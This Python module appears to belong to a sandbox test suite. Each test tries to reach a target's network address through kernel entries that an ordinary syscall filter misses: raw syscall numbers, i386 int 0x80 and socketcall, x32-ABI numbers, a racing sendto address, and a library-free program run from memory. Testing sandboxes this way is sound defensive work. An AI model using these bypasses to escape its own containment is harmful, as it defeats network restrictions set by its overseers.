"""The same connection by other entries to the kernel, which a filter of the usual ones would not see."""

from __future__ import annotations

import ctypes
import os
import platform
import socket
import struct
import subprocess

from .base import Judge, Target, attack
from .machine import call32, low, need_x86, program, raw

_ARM = platform.machine() == "aarch64"
_SOCKET, _CONNECT, _SENDTO = (198, 203, 206) if _ARM else (41, 42, 44)
_X32 = 0x40000000


def _where(address: str, port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8)


@attack(Judge.PACKET, "socket and connect by their numbers")
def numbers(target: Target) -> str:
    end = raw(_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    return str(raw(_CONNECT, end, ctypes.create_string_buffer(_where(target.public, 443), 16), 16))


@attack(Judge.PACKET, "a datagram by its number, to an address that changes meanwhile")
def changing(target: Target) -> str:
    end = raw(_SOCKET, socket.AF_INET, socket.SOCK_DGRAM, 0)
    where = ctypes.create_string_buffer(_where("127.0.0.1", 9999), 16)
    for address in ("127.0.0.1", target.public) * 50:
        where.raw = _where(address, 9999)
        raw(_SENDTO, end, ctypes.c_char_p(b"out"), 3, 0, where, 16)
    return "sent"


@attack(Judge.PACKET, "i386: socketcall by int 0x80")
def int80(target: Target) -> str:
    end = call32(102, 1, low(struct.pack("<III", socket.AF_INET, socket.SOCK_STREAM, 0)))
    if end < 0:
        return f"socket: {end}"
    where = low(_where(target.public, 443))
    return f"connect: {call32(102, 3, low(struct.pack('<III', end, where, 16)))}"


@attack(Judge.PACKET, "i386: socket and connect by int 0x80")
def int80_direct(target: Target) -> str:
    end = call32(359, socket.AF_INET, socket.SOCK_STREAM, 0)
    return f"{end}, {call32(362, end, low(_where(target.public, 443)), 16)}"


@attack(Judge.PACKET, "i386: connect by int 0x80 of an ordinary socket")
def int80_mixed(target: Target) -> str:
    with socket.socket() as end:
        return str(call32(362, end.fileno(), low(_where(target.public, 443)), 16))


@attack(Judge.SURFACE, "i386: any call at all (getpid)")
def int80_getpid(_: Target) -> str:
    number = call32(20)
    return f"errno {-number if number < 0 else 0}"


@attack(Judge.PACKET, "x32: connect by its number")
def x32(target: Target) -> str:
    need_x86()
    end = raw(_X32 | 41, socket.AF_INET, socket.SOCK_STREAM, 0)
    with socket.socket() as usual:
        where = ctypes.create_string_buffer(_where(target.public, 443), 16)
        return f"{end}, {raw(_X32 | 42, usual.fileno(), where, 16)}"


@attack(Judge.SURFACE, "x32: ptrace by its own number")
def x32_ptrace(_: Target) -> str:
    need_x86()
    return f"errno {-raw(_X32 | 521, 0, 0, 0, 0)}"


@attack(Judge.PACKET, "a program without any library, run from memory")
def from_memory(target: Target) -> str:
    end = program(target.public, 443)
    return str(subprocess.run([f"/proc/self/fd/{end}"], pass_fds=(end,), timeout=3, check=False).returncode)


@attack(Judge.PACKET, "the same with the path written in the workspace")
def from_workspace(target: Target) -> str:
    path = f"{target.world.workspace}/program{target.number}"
    end = program(target.public, 443)
    with open(path, "wb") as file:
        file.write(os.pread(end, 4096, 0))
    os.chmod(path, 0o700)
    return str(subprocess.run([path], timeout=3, check=False).returncode)
